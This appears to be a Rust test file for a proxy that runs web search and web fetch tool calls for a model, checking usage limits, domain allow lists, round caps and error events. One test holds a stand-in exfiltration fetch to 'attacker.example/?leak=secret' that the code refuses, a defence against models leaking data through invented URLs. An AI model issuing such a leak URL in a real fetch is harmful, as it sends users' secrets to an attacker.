use serde_json::{Value, json};

use super::*;
use crate::anthropic::events::{Delta, Message, MessageShell};
use crate::anthropic::stream::Validator;
use crate::server_tools::fetch::{FetchedPage, PageBody};
use crate::server_tools::plan::plan;

fn start(input_tokens: u32) -> StreamEvent {
    StreamEvent::MessageStart {
        message: Box::new(MessageShell::new("msg_up".into(), "m".into(), input_tokens)),
    }
}

fn tool_call(index: u32, name: &str, input: &str) -> Vec<StreamEvent> {
    vec![
        StreamEvent::ContentBlockStart {
            index,
            content_block: BlockStart::ToolUse {
                id: format!("call_{index}"),
                name: name.into(),
                input: json!({}),
            },
        },
        StreamEvent::ContentBlockDelta {
            index,
            delta: Delta::InputJsonDelta {
                partial_json: input.into(),
            },
        },
        StreamEvent::ContentBlockStop { index },
    ]
}

fn text(index: u32, text: &str) -> Vec<StreamEvent> {
    vec![
        StreamEvent::ContentBlockStart {
            index,
            content_block: BlockStart::Text {
                text: String::new(),
            },
        },
        StreamEvent::ContentBlockDelta {
            index,
            delta: Delta::TextDelta { text: text.into() },
        },
        StreamEvent::ContentBlockStop { index },
    ]
}

fn end(stop: StopReason, input: u32, output: u32) -> Vec<StreamEvent> {
    vec![
        StreamEvent::MessageDelta {
            delta: MessageDeltaBody {
                stop_reason: Some(stop),
                stop_sequence: None,
            },
            usage: Usage {
                input_tokens: input,
                output_tokens: output,
                ..Usage::zero()
            },
        },
        StreamEvent::MessageStop,
    ]
}

fn new_loop(tools: &Value) -> ServerToolLoop {
    let body = json!({"model":"m","max_tokens":100,"messages":[{"role":"user","content":"q"}],"tools":tools});
    ServerToolLoop::new(plan(body.to_string().as_bytes()).unwrap().unwrap(), 1)
}

/// A search call's query.
fn query(call: &ServerCall) -> &str {
    match call {
        ServerCall::Search(search) => &search.query,
        ServerCall::Fetch(fetch) => panic!("a fetch of {}", fetch.url),
    }
}

fn feed(turn: &mut ServerToolLoop, events: Vec<StreamEvent>, out: &mut String) {
    for event in events {
        turn.push(event, out);
    }
}

/// The client's stream, validated, folded into its message.
fn folded(out: &str) -> Message {
    let events = Validator::check_sse(out.as_bytes()).unwrap_or_else(|v| panic!("{v:?}\n{out}"));
    let mut acc = Accumulator::default();
    for event in &events {
        acc.push(event);
    }
    acc.message().cloned().unwrap()
}

fn hits() -> Vec<SearchHit> {
    vec![SearchHit {
        url: "https://a.example/".into(),
        title: "A".into(),
        snippet: "the answer is 42".into(),
        page_age: None,
    }]
}

#[test]
fn a_search_round_then_an_answer_is_one_message() {
    let mut turn = new_loop(&json!([{"type":"web_search_20250305","name":"web_search"}]));
    let mut out = String::new();
    feed(&mut turn, vec![start(10)], &mut out);
    feed(&mut turn, text(0, "Let me look."), &mut out);
    feed(
        &mut turn,
        tool_call(1, "web_search", r#"{"query":"the answer"}"#),
        &mut out,
    );
    feed(&mut turn, end(StopReason::ToolUse, 10, 7), &mut out);
    let Round::Run(calls) = turn.end_round(&mut out) else {
        panic!("a search")
    };
    assert_eq!(calls.len(), 1);
    assert_eq!(query(&calls[0]), "the answer");
    assert!(calls[0].id().starts_with("srvtoolu_"));
    turn.deliver(calls[0].id(), Ok(Found::Hits(hits())), &mut out);
    let next: Value = serde_json::from_str(&turn.next_request(&mut out).unwrap()).unwrap();
    let messages = next["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 3);
    assert_eq!(messages[1]["content"][1]["type"], "tool_use");
    assert_eq!(messages[1]["content"][1]["id"], calls[0].id());
    let result = &messages[2]["content"][0];
    assert_eq!(result["tool_use_id"], calls[0].id());
    assert!(
        result["content"]
            .as_str()
            .unwrap()
            .contains("the answer is 42")
    );
    assert_eq!(next["stream"], true);

    feed(&mut turn, vec![start(30)], &mut out);
    feed(
        &mut turn,
        text(0, "It is 42 [https://a.example/]."),
        &mut out,
    );
    feed(&mut turn, end(StopReason::EndTurn, 30, 5), &mut out);
    assert_eq!(turn.end_round(&mut out), Round::Finished);
    assert!(turn.is_done());

    let message = folded(&out);
    let kinds: Vec<&str> = message
        .content
        .iter()
        .map(|b| match b {
            ContentBlock::Text { .. } => "text",
            ContentBlock::ServerToolUse { .. } => "server_tool_use",
            ContentBlock::WebSearchToolResult { .. } => "web_search_tool_result",
            _ => "other",
        })
        .collect();
    assert_eq!(
        kinds,
        ["text", "server_tool_use", "web_search_tool_result", "text"]
    );
    let ContentBlock::ServerToolUse { input, .. } = &message.content[1] else {
        unreachable!()
    };
    assert_eq!(input["query"], "the answer");
    let ContentBlock::WebSearchToolResult { content, .. } = &message.content[2] else {
        unreachable!()
    };
    assert_eq!(content[0]["url"], "https://a.example/");
    assert_eq!(message.stop_reason, Some(StopReason::EndTurn));
    assert_eq!(
        (message.usage.input_tokens, message.usage.output_tokens),
        (40, 12)
    );
    assert_eq!(
        message.usage.server_tool_use.unwrap().web_search_requests,
        1
    );
    assert_eq!(
        out.matches("message_start").count(),
        2,
        "one event, its name and type"
    );
}

#[test]
fn calls_past_max_uses_are_refused_without_a_search() {
    let mut turn =
        new_loop(&json!([{"type":"web_search_20250305","name":"web_search","max_uses":1}]));
    let mut out = String::new();
    feed(&mut turn, vec![start(1)], &mut out);
    feed(
        &mut turn,
        tool_call(0, "web_search", r#"{"query":"one"}"#),
        &mut out,
    );
    feed(
        &mut turn,
        tool_call(1, "web_search", r#"{"query":"two"}"#),
        &mut out,
    );
    feed(
        &mut turn,
        tool_call(2, "web_search", r#"{"q":"no query"}"#),
        &mut out,
    );
    feed(&mut turn, end(StopReason::ToolUse, 1, 1), &mut out);
    let Round::Run(calls) = turn.end_round(&mut out) else {
        panic!("a search")
    };
    assert_eq!(calls.iter().map(query).collect::<Vec<_>>(), ["one"]);
    assert!(out.contains(r#""error_code":"max_uses_exceeded""#), "{out}");
    assert!(
        out.contains(r#""error_code":"invalid_tool_input""#),
        "{out}"
    );
    turn.deliver(
        calls[0].id(),
        Err(ToolFailure {
            code: "unavailable",
            message: "no backend".into(),
        }),
        &mut out,
    );
    let next: Value = serde_json::from_str(&turn.next_request(&mut out).unwrap()).unwrap();
    let results = next["messages"][2]["content"].as_array().unwrap();
    assert_eq!(results.len(), 3, "every call is answered");
    assert!(results.iter().all(|r| r["is_error"] == true));
    let unavailable = results
        .iter()
        .find(|r| r["tool_use_id"] == calls[0].id())
        .unwrap();
    assert!(
        unavailable["content"]
            .as_str()
            .unwrap()
            .contains("no backend")
    );
    feed(&mut turn, vec![start(1)], &mut out);
    feed(&mut turn, text(0, "Sorry."), &mut out);
    feed(&mut turn, end(StopReason::EndTurn, 1, 1), &mut out);
    assert_eq!(turn.end_round(&mut out), Round::Finished);
    let message = folded(&out);
    assert_eq!(message.content.len(), 7);
    assert_eq!(
        message.usage.server_tool_use.unwrap().web_search_requests,
        0,
        "no search ran"
    );
}

#[test]
fn a_client_tool_call_ends_the_answer_once_the_searches_are_in() {
    let mut turn = new_loop(
        &json!([{"name":"Bash","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search"}]),
    );
    let mut out = String::new();
    feed(&mut turn, vec![start(1)], &mut out);
    feed(
        &mut turn,
        tool_call(0, "web_search", r#"{"query":"x"}"#),
        &mut out,
    );
    feed(
        &mut turn,
        tool_call(1, "Bash", r#"{"command":"ls"}"#),
        &mut out,
    );
    feed(&mut turn, end(StopReason::ToolUse, 1, 1), &mut out);
    let Round::Run(calls) = turn.end_round(&mut out) else {
        panic!("a search")
    };
    turn.deliver(calls[0].id(), Ok(Found::Hits(hits())), &mut out);
    assert_eq!(turn.next_request(&mut out), None);
    let message = folded(&out);
    assert_eq!(message.stop_reason, Some(StopReason::ToolUse));
    assert!(matches!(&message.content[1], ContentBlock::ToolUse { id, .. } if id == "call_1"));
}

#[test]
fn the_round_cap_pauses_the_turn() {
    let mut turn = new_loop(&json!([{"type":"web_search_20250305","name":"web_search"}]));
    let mut out = String::new();
    for round in 0..MAX_ROUNDS {
        feed(&mut turn, vec![start(1)], &mut out);
        feed(
            &mut turn,
            tool_call(0, "web_search", &format!(r#"{{"query":"q{round}"}}"#)),
            &mut out,
        );
        feed(&mut turn, end(StopReason::ToolUse, 1, 1), &mut out);
        let Round::Run(calls) = turn.end_round(&mut out) else {
            panic!("a search")
        };
        turn.deliver(calls[0].id(), Ok(Found::Hits(Vec::new())), &mut out);
        let next = turn.next_request(&mut out);
        assert_eq!(next.is_some(), round + 1 < MAX_ROUNDS);
    }
    let message = folded(&out);
    assert_eq!(message.stop_reason, Some(StopReason::PauseTurn));
    assert_eq!(
        message.usage.server_tool_use.unwrap().web_search_requests,
        MAX_ROUNDS
    );
}

#[test]
fn an_answer_without_a_search_passes_through() {
    let mut turn = new_loop(&json!([{"type":"web_search_20250305","name":"web_search"}]));
    let mut out = String::new();
    feed(&mut turn, vec![start(3)], &mut out);
    feed(&mut turn, text(0, "I know this."), &mut out);
    feed(&mut turn, end(StopReason::EndTurn, 3, 4), &mut out);
    assert_eq!(turn.end_round(&mut out), Round::Finished);
    let message = folded(&out);
    assert_eq!(message.usage.server_tool_use, None);
    assert_eq!(message.usage.output_tokens, 4);
}

#[test]
fn upstream_errors_and_cut_rounds_end_with_an_error_event() {
    let mut turn = new_loop(&json!([{"type":"web_search_20250305","name":"web_search"}]));
    let mut out = String::new();
    feed(&mut turn, vec![start(3)], &mut out);
    feed(&mut turn, text(0, "partial"), &mut out);
    assert_eq!(turn.end_round(&mut out), Round::Finished);
    assert!(
        out.ends_with("\n\n") && out.contains("event: error"),
        "{out}"
    );
    Validator::check_sse(out.as_bytes()).unwrap();

    let mut turn = new_loop(&json!([{"type":"web_search_20250305","name":"web_search"}]));
    let mut out = String::new();
    feed(&mut turn, vec![start(3)], &mut out);
    turn.push(
        StreamEvent::Error {
            error: ApiError::new(ErrorKind::Overloaded, "busy"),
        },
        &mut out,
    );
    assert!(turn.is_done());
    assert_eq!(turn.end_round(&mut out), Round::Finished);
    assert_eq!(out.matches("event: error").count(), 1);
}

fn fetch_loop(user: &str, tool: &Value) -> ServerToolLoop {
    let body = json!({"model":"m","max_tokens":100,
        "messages":[{"role":"user","content":user}],"tools":[tool]});
    ServerToolLoop::new(plan(body.to_string().as_bytes()).unwrap().unwrap(), 1)
}

fn page(url: &str, text: &str) -> FetchedPage {
    FetchedPage {
        url: url.into(),
        title: Some("Guide".into()),
        body: PageBody::Text(text.into()),
        retrieved_at: 1_795_766_400,
    }
}

#[test]
fn a_fetch_of_a_url_the_user_gave_is_one_message_and_its_page_reaches_the_model() {
    let mut turn = fetch_loop(
        "Summarise https://docs.example/guide please",
        &json!({"type":"web_fetch_20250910","name":"web_fetch","max_content_tokens":1000,"citations":{"enabled":true}}),
    );
    let mut out = String::new();
    feed(&mut turn, vec![start(10)], &mut out);
    feed(
        &mut turn,
        tool_call(0, "web_fetch", r#"{"url":"https://docs.example/guide"}"#),
        &mut out,
    );
    feed(&mut turn, end(StopReason::ToolUse, 10, 5), &mut out);
    let Round::Run(calls) = turn.end_round(&mut out) else {
        panic!("a fetch")
    };
    let [ServerCall::Fetch(call)] = calls.as_slice() else {
        panic!("{calls:?}")
    };
    assert_eq!(call.url, "https://docs.example/guide");
    assert_eq!(call.tool.max_content_tokens, Some(1000));
    turn.deliver(
        &call.id,
        Ok(Found::Page(page(
            "https://docs.example/guide",
            "Install with cargo. See https://docs.example/next",
        ))),
        &mut out,
    );
    let next: Value = serde_json::from_str(&turn.next_request(&mut out).unwrap()).unwrap();
    let result = &next["messages"][2]["content"][0];
    assert_eq!(result["tool_use_id"], call.id.as_str());
    let for_model = result["content"].as_str().unwrap();
    assert!(
        for_model.contains("Install with cargo") && for_model.contains("Title: Guide"),
        "{for_model}"
    );
    // The fetched page's links may be fetched next; the model's own inventions may not.
    feed(&mut turn, vec![start(20)], &mut out);
    feed(
        &mut turn,
        tool_call(0, "web_fetch", r#"{"url":"https://docs.example/next"}"#),
        &mut out,
    );
    feed(
        &mut turn,
        tool_call(
            1,
            "web_fetch",
            r#"{"url":"https://attacker.example/?leak=secret"}"#,
        ),
        &mut out,
    );
    feed(&mut turn, end(StopReason::ToolUse, 20, 5), &mut out);
    let Round::Run(calls) = turn.end_round(&mut out) else {
        panic!("a fetch")
    };
    assert_eq!(calls.len(), 1, "{calls:?}");
    assert!(
        out.contains(r#""error_code":"url_not_in_prior_context""#),
        "{out}"
    );
    turn.deliver(
        calls[0].id(),
        Err(ToolFailure {
            code: "url_not_accessible",
            message: "the site answered 404".into(),
        }),
        &mut out,
    );
    let next: Value = serde_json::from_str(&turn.next_request(&mut out).unwrap()).unwrap();
    let results = next["messages"][4]["content"].as_array().unwrap();
    let failed = results
        .iter()
        .find(|r| r["tool_use_id"] == calls[0].id())
        .unwrap();
    assert!(
        failed["content"]
            .as_str()
            .unwrap()
            .contains("The web fetch failed (url_not_accessible): the site answered 404"),
        "{failed}"
    );
    assert_eq!(results.len(), 2, "the refused call is answered too");
    feed(&mut turn, vec![start(30)], &mut out);
    feed(&mut turn, text(0, "It says: install with cargo."), &mut out);
    feed(&mut turn, end(StopReason::EndTurn, 30, 6), &mut out);
    assert_eq!(turn.end_round(&mut out), Round::Finished);
    let message = folded(&out);
    let kinds: Vec<&str> = message
        .content
        .iter()
        .map(|b| match b {
            ContentBlock::ServerToolUse { .. } => "server_tool_use",
            ContentBlock::WebFetchToolResult { .. } => "web_fetch_tool_result",
            ContentBlock::Text { .. } => "text",
            _ => "other",
        })
        .collect();
    assert_eq!(
        kinds,
        [
            "server_tool_use",
            "web_fetch_tool_result",
            "server_tool_use",
            "server_tool_use",
            "web_fetch_tool_result",
            "web_fetch_tool_result",
            "text"
        ]
    );
    let ContentBlock::WebFetchToolResult { content, .. } = &message.content[1] else {
        panic!()
    };
    assert_eq!(content["type"], "web_fetch_result");
    assert_eq!(content["content"]["citations"]["enabled"], true);
    assert_eq!(content["retrieved_at"], "2026-11-27T08:00:00Z");
    let usage = message.usage.server_tool_use.unwrap();
    assert_eq!(
        (usage.web_fetch_requests, usage.web_search_requests),
        (1, 0)
    );
    assert_eq!(message.usage.input_tokens, 60);
}

#[test]
fn a_fetch_outside_the_tools_domains_or_past_max_uses_is_refused_without_a_call() {
    let mut turn = fetch_loop(
        "Compare https://a.example/x and https://b.example/y and https://a.example/z",
        &json!({"type":"web_fetch_20250910","name":"web_fetch","max_uses":1,"allowed_domains":["a.example"]}),
    );
    let mut out = String::new();
    feed(&mut turn, vec![start(1)], &mut out);
    feed(
        &mut turn,
        tool_call(0, "web_fetch", r#"{"url":"https://b.example/y"}"#),
        &mut out,
    );
    feed(
        &mut turn,
        tool_call(1, "web_fetch", r#"{"url":"https://a.example/x"}"#),
        &mut out,
    );
    feed(
        &mut turn,
        tool_call(2, "web_fetch", r#"{"url":"https://a.example/z"}"#),
        &mut out,
    );
    feed(&mut turn, tool_call(3, "web_fetch", r#"{}"#), &mut out);
    feed(&mut turn, end(StopReason::ToolUse, 1, 1), &mut out);
    let Round::Run(calls) = turn.end_round(&mut out) else {
        panic!("a fetch")
    };
    let urls: Vec<&str> = calls
        .iter()
        .map(|c| match c {
            ServerCall::Fetch(f) => f.url.as_str(),
            ServerCall::Search(s) => panic!("{s:?}"),
        })
        .collect();
    assert_eq!(urls, ["https://a.example/x"]);
    for code in ["url_not_allowed", "max_uses_exceeded", "invalid_tool_input"] {
        assert!(
            out.contains(&format!(
                r#""type":"web_fetch_tool_result_error","error_code":"{code}""#
            )),
            "{code}: {out}"
        );
    }
}
